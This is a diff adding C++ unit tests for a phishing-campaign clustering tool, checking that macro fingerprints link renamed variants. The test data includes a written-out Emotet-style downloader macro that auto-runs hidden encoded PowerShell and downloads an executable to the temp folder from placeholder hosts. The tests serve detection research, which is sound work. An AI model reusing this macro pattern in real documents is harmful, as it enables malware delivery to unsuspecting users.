@@ -7,6 +7,7 @@
 #include "campaign/cluster.hpp"
 #include "demo_detections.hpp"
 
+#include <fmt/format.h>
 #include <gtest/gtest.h>
 
 using namespace replyguard;
@@ -151,3 +152,65 @@ TEST(Cluster, IdIsStableAndOrderIndependent) {
 }
 
 TEST(Cluster, Empty) { EXPECT_TRUE(campaign::cluster({}, opts()).empty()); }
+
+namespace {
+
+// An Emotet-style downloader macro (2019 shape); the variants rename variables
+// and swap the URL, as the waves of one campaign did.
+std::string macro_source(std::string_view var, std::string_view url) {
+    return fmt::format(
+        "Attribute VB_Name = \"ThisDocument\"\n"
+        "' generated\n"
+        "Sub AutoOpen()\n"
+        "    Dim {0} As Object\n"
+        "    Set {0} = CreateObject(\"WScript.Shell\")\n"
+        "    Dim cmdLine As String\n"
+        "    cmdLine = \"powershell -w hidden -enc \" & Chr(34) & \"JABzAD0AJwBoAHQAdABwADoA\" & Chr(34)\n"
+        "    cmdLine = Replace(cmdLine, \"JAB\", \"JAB\")\n"
+        "    Dim target As String\n"
+        "    target = Environ(\"TEMP\") & \"\\\\update.exe\"\n"
+        "    Call Download(\"{1}\", target)\n"
+        "    {0}.Run cmdLine, 0, False\n"
+        "End Sub\n"
+        "Private Sub Download(ByVal src As String, ByVal dst As String)\n"
+        "    Dim http As Object: Set http = CreateObject(\"MSXML2.XMLHTTP\")\n"
+        "    http.Open \"GET\", src, False\n"
+        "    http.Send\n"
+        "End Sub\n",
+        var, url);
+}
+
+}  // namespace
+
+TEST(Cluster, MacroFingerprintNormalises) {
+    auto a = campaign::macro_fingerprint("Sub  AutoOpen()\r\n\tDIM x AS Object\n' comment line here\nAttribute VB_Name = \"M\"\nx\n");
+    auto b = campaign::macro_fingerprint("sub autoopen()\n  dim x as object\n");
+    EXPECT_EQ(a, b);
+    EXPECT_EQ(a.size(), 2u);  // comment, attribute and the short line are skipped
+    EXPECT_TRUE(std::is_sorted(a.begin(), a.end()));
+    EXPECT_TRUE(campaign::macro_fingerprint("").empty());
+}
+
+TEST(Cluster, SimilarMacrosLinkDifferentMacrosDoNot) {
+    auto fa = campaign::macro_fingerprint(macro_source("wsh", "http://a.example/x"));
+    auto fb = campaign::macro_fingerprint(macro_source("objShell", "http://b.example/y"));
+    auto fc = campaign::macro_fingerprint(
+        "Sub Workbook_Open()\n    MsgBox \"Quarterly figures updated\"\n    Range(\"A1\").Value = Date\n"
+        "    Sheets(\"Summary\").Activate\n    ActiveWorkbook.Save\n    Application.StatusBar = False\nEnd Sub\n");
+    double ab = campaign::macro_similarity(fa, fb);
+    EXPECT_GE(ab, 0.5) << ab;  // one variable renamed on 4 of 15 lines
+    EXPECT_LT(ab, 1.0);
+    EXPECT_LT(campaign::macro_similarity(fa, fc), 0.2);
+
+    detection a = rg_test::by_source("06-");
+    a.relay_ip.clear();
+    a.attachments[0].macro_fp = fa;
+    detection b = variant(a, "macro-b@x", 2);
+    b.attachments[0].sha256 = std::string(64, '1');
+    b.attachments[0].member_sha256.clear();
+    b.attachments[0].macro_fp = fb;
+    a.attachments[0].member_sha256.clear();
+    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 1u);
+    b.attachments[0].macro_fp = fc;
+    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 2u);
+}
